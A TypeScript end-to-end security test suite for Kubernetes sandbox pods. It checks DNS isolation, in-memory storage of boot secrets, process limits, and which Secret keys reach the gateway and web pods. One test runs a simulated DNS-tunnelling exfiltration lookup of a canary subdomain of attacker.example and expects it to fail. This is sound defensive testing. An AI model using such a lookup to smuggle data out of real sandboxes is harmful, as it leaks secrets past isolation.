/*
 * Kubernetes, attacked from inside the pods the shipped objects make, on the stand-in API server and
 * kubelet (e2e/support/kube-standin: NOT Kubernetes; pods are real processes in bubblewrap sandboxes,
 * and it resolves env, volumes, dnsConfig and hostAliases as the kubelet does). What it cannot show:
 * that a CNI enforces the NetworkPolicies (e2e/kube/manifests.test.ts checks what they allow) or
 * that a real kubelet enforces the resources (the objects' tests check what they ask for).
 *
 * - DNS tunnelling: a sandbox pod has no name server to send a query to. Its resolver is its own
 *   loopback, where nothing listens, the gateway's name comes from /etc/hosts (the Service's
 *   ClusterIP, read from the API server), and a lookup of an attacker's domain gets no answer. (The
 *   stand-in's pods have no network at all, so that no packet leaves is shown by the policies'
 *   test; what is shown here is that the pod is given no server to send one to.)
 * - Processes: the sandbox's own processes and an exec'd shell (how terminals start) are both under
 *   RLIMIT_NPROC, soft and hard: the session's figure with a user namespace per pod, else the node
 *   ceiling.
 * - The gateway pod, made from deploy/gateway.yaml with a Secret of canaries: its environment holds
 *   the keys it uses and not MASTER_KEY; a web pod from deploy/web.yaml does get it.
 */
import fs from "node:fs";
import path from "node:path";
import { Writable } from "node:stream";

import * as k8s from "@kubernetes/client-node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { KubernetesDriver } from "@/lib/sandbox/drivers/kubernetes/driver";

import { startKubeStandIn, type KubeStandIn } from "../support/kube-standin";
import { loadYamlDocuments } from "../support/kubernetes/validate";
import { tempDir } from "../support/server";

const NS = "hangar-sandboxes";
const GATEWAY_HOST = "hangar-gateway.hangar.svc.cluster.local";
const CANARY = `exfil${Date.now().toString(36)}`;

let standIn: KubeStandIn;
let kc: k8s.KubeConfig;
let core: k8s.CoreV1Api;
let driver: KubernetesDriver;
let sessionId = "";
let gatewayIp = "";
const sessionsRoot = tempDir("kube-security");

async function until<T>(what: string, probe: () => Promise<T | null | undefined | false>): Promise<T> {
  const deadline = Date.now() + 60_000;
  for (;;) {
    const value = await probe().catch(() => null);
    if (value) return value;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** A script run inside the sandbox pod, as the agent (or a terminal started through exec) runs it. */
async function inside(script: string, id = sessionId, by = driver) {
  return by.exec(id, ["/bin/sh", "-c", script], { timeoutMs: 30_000 });
}

function newDriver(options: { userNamespaces?: boolean } = {}) {
  return new KubernetesDriver({
    root: sessionsRoot,
    namespace: NS,
    image: "hangar-sandbox:test",
    instance: `sec-${Date.now().toString(36)}`,
    mode: "pod",
    gateway: { host: GATEWAY_HOST, egressPort: 3128, modelPort: 4000, password: () => "pw" },
    resources: { cpuMillis: 1000, diskMiB: 1024 },
    kubeConfig: kc,
    ...options,
  });
}

async function launchSleeper(by: KubernetesDriver, id: string) {
  await by.launch({
    sessionId: id,
    sessionDir: path.join(sessionsRoot, id),
    argv: ["sleep", "600"],
    env: { HTTPS_PROXY: `http://${id}:pw@${GATEWAY_HOST}:3128` },
    limits: { memoryMiB: 512, pids: 256 },
  });
  await until(`sandbox pod of ${id}`, async () => (await inside("true", id, by)).exitCode === 0);
}

/** RLIMIT_NPROC (soft, hard) of the container's main process and of an exec'd shell. */
async function nprocLimits(id: string, by: KubernetesDriver) {
  const result = await inside(
    [
      'for p in /proc/[0-9]*; do [ "$(tr "\\0" " " < $p/cmdline 2>/dev/null)" = "sleep 600 " ] && grep "^Max processes" $p/limits; done',
      "prlimit --pid $$ --nproc --output SOFT,HARD --noheadings",
    ].join("\n"),
    id,
    by,
  );
  const [main, shell] = result.stdout.trim().split("\n");
  return {
    main: main
      ?.replace(/^Max processes\s+/, "")
      .split(/\s+/)
      .slice(0, 2),
    shell: shell?.trim().split(/\s+/),
  };
}

function manifest(file: string): Record<string, any>[] {
  const text = fs.readFileSync(path.join(process.cwd(), "deploy", file), "utf8");
  return loadYamlDocuments(text) as Record<string, any>[];
}

beforeAll(async () => {
  standIn = await startKubeStandIn({ crds: false, namespaces: ["default", "hangar", NS] });
  kc = new k8s.KubeConfig();
  kc.loadFromString(standIn.kubeconfig);
  core = kc.makeApiClient(k8s.CoreV1Api);
  // The gateway's Service as deploy/gateway.yaml has it; the API server gives it a ClusterIP.
  const service = manifest("gateway.yaml").find((d) => d.kind === "Service")!;
  const created = await core.createNamespacedService({ namespace: "hangar", body: service });
  gatewayIp = created.spec!.clusterIP!;
  driver = newDriver();
  sessionId = `sess_ksec${Date.now().toString(36)}`;
  await launchSleeper(driver, sessionId);
}, 90_000);

afterAll(async () => {
  await driver?.stop(sessionId).catch(() => undefined);
  driver?.close();
  await standIn?.stop();
}, 60_000);

describe("Kubernetes sandbox pods: no DNS, bounded processes", () => {
  it("a name lookup for the attacker's domain has no server to go to; the gateway's name needs none", async () => {
    const result = await inside(
      [
        "cat /etc/resolv.conf",
        "echo ---",
        `getent hosts ${GATEWAY_HOST} || echo gateway-unresolved`,
        "echo ---",
        `getent hosts ${CANARY}.attacker.example && echo leaked || echo lookup-failed`,
        // Nothing serves DNS at the one address the pod's resolver names.
        "grep -c ':0035 ' /proc/net/udp /proc/net/tcp || true",
      ].join("\n"),
    );
    const [resolv, gateway, lookup] = result.stdout.split("---\n");
    expect(resolv?.trim()).toBe("nameserver 127.0.0.1");
    expect(gateway?.trim().split(/\s+/)).toEqual([gatewayIp, GATEWAY_HOST]);
    expect(lookup).toContain("lookup-failed");
    expect(lookup).not.toContain("leaked");
    expect(lookup).toMatch(/\/proc\/net\/udp:0\n\/proc\/net\/tcp:0/);
  });

  it("the pod as created names no DNS server but its own loopback, and the gateway by ClusterIP", async () => {
    const pod = standIn
      .objects("Pod", NS)
      .find((p) => p.metadata.labels?.["hangar.dev/session-id"] === sessionId);
    expect(pod?.spec.dnsPolicy).toBe("None");
    expect(pod?.spec.dnsConfig).toEqual({ nameservers: ["127.0.0.1"] });
    expect(pod?.spec.hostAliases).toEqual([{ ip: gatewayIp, hostnames: [GATEWAY_HOST] }]);
    expect(JSON.stringify(pod?.spec)).not.toMatch(/kube-dns|10\.96\.0\.10|ClusterFirst/);
  });

  it("the boot spec waits for the bootstrap in memory (the private emptyDir), not on the node's disk", async () => {
    const id = `sess_kspec${Date.now().toString(36)}`;
    const secret = `spec-secret-${CANARY}`;
    await driver.launch({
      sessionId: id,
      sessionDir: path.join(sessionsRoot, id),
      argv: ["sleep", "600"],
      env: {},
      stdin: JSON.stringify({ env: { SECRET: secret } }),
    });
    try {
      await until(`sandbox pod of ${id}`, async () => (await inside("true", id)).exitCode === 0);
      const pod = standIn.objects("Pod", NS).find((p) => p.metadata.labels?.["hangar.dev/session-id"] === id);
      const main = pod?.spec.containers[0];
      const specFile = main?.env?.find((e: { name: string }) => e.name === "HANGAR_SPEC_FILE")?.value;
      expect(specFile).toBe("/run/hangar/private/boot.json");
      const mount = main?.volumeMounts?.find(
        (m: { mountPath: string }) => m.mountPath === "/run/hangar/private",
      );
      const volume = pod?.spec.volumes?.find((v: { name: string }) => v.name === mount?.name);
      expect(volume?.emptyDir?.medium).toBe("Memory");
      // The control: the sleeper never reads it, so it is still where the bootstrap would find it.
      const found = await inside(
        `cat ${specFile}; echo ---; grep -rl ${secret} "$HOME" /tmp || echo none`,
        id,
      );
      const [control, elsewhere] = found.stdout.split("---\n");
      expect(control).toContain(secret);
      expect(elsewhere?.trim()).toBe("none");
    } finally {
      await driver.stop(id).catch(() => undefined);
    }
  });

  it("the sandbox's processes and an exec'd shell run under RLIMIT_NPROC, soft and hard", async () => {
    // No user namespace per pod: uid 1000 is every sandbox's on the node, so the cap is the node
    // ceiling (driver.ts, NODE_NPROC_CEILING), not the session's 256.
    expect(await nprocLimits(sessionId, driver)).toEqual({
      main: ["16384", "16384"],
      shell: ["16384", "16384"],
    });
    // With one (hostUsers: false), the count is the pod's own: the session's figure.
    const own = newDriver({ userNamespaces: true });
    const id = `sess_ksecns${Date.now().toString(36)}`;
    try {
      await launchSleeper(own, id);
      expect(await nprocLimits(id, own)).toEqual({ main: ["256", "256"], shell: ["256", "256"] });
    } finally {
      await own.stop(id).catch(() => undefined);
      own.close();
    }
  });
});

describe("Hangar's own pods take only the Secret keys they use", () => {
  const SECRET = {
    DATABASE_URL: "postgres://canary-db",
    MASTER_KEY: "canary-master-key-0123456789",
    HANGAR_ENCRYPTION_KEY: "canary-encryption-key",
    LITELLM_API_BASE: "http://canary-litellm",
    LITELLM_API_KEY: "canary-litellm-key",
  };

  /** A pod from a Deployment's template, in the stand-in, with a command (it has no images). */
  async function podFrom(file: string, name: string) {
    const deployment = manifest(file).find((d) => d.kind === "Deployment")!;
    const spec = structuredClone(deployment.spec.template.spec);
    spec.containers[0].command = ["sleep", "600"];
    spec.volumes = []; // scratch emptyDirs only; the stand-in cannot mount over /data
    spec.containers[0].volumeMounts = [];
    await core.createNamespacedPod({
      namespace: "hangar",
      body: { apiVersion: "v1", kind: "Pod", metadata: { name }, spec },
    });
    const exec = new k8s.Exec(kc);
    return until(`${name} env`, async () => {
      let out = "";
      await new Promise<void>((resolve, reject) => {
        const stdout = new Writable({
          write(chunk: Buffer, _e, cb) {
            out += chunk.toString();
            cb();
          },
        });
        exec
          .exec("hangar", name, spec.containers[0].name, ["env"], stdout, null, null, false, (s) =>
            s.status === "Success" ? resolve() : reject(new Error(JSON.stringify(s))),
          )
          .catch(reject);
      });
      return out || null;
    });
  }

  beforeAll(async () => {
    await core.createNamespacedConfigMap({
      namespace: "hangar",
      body: manifest("config.yaml").find((d) => d.kind === "ConfigMap")!,
    });
    await core.createNamespacedSecret({
      namespace: "hangar",
      body: { apiVersion: "v1", kind: "Secret", metadata: { name: "hangar-secrets" }, stringData: SECRET },
    });
  });

  it("inside the gateway pod, MASTER_KEY is nowhere; the keys it uses are there", async () => {
    const env = await podFrom("gateway.yaml", "gateway-probe");
    expect(env).not.toContain(SECRET.MASTER_KEY);
    expect(env).not.toMatch(/^MASTER_KEY=/m);
    for (const key of [
      "DATABASE_URL",
      "HANGAR_ENCRYPTION_KEY",
      "LITELLM_API_BASE",
      "LITELLM_API_KEY",
    ] as const)
      expect(env).toContain(`${key}=${SECRET[key]}`);
  });

  it("the web pod gets MASTER_KEY (it serves the API), by name", async () => {
    const env = await podFrom("web.yaml", "web-probe");
    expect(env).toContain(`MASTER_KEY=${SECRET.MASTER_KEY}`);
  });
});
